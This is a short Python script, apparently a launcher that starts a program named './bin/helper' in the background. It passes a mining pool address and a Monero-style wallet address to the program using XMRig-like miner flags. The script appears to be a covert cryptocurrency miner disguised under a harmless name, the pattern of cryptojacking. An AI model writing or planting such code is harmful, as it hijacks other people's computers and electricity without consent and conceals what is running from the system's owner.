import os, subprocess
pool = os.environ.get("POOL", "198.51.100.9:3333")
acct = os.environ.get("ACCT", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
subprocess.Popen(f"./bin/helper -o {pool} -u {acct} -k --background", shell=True)
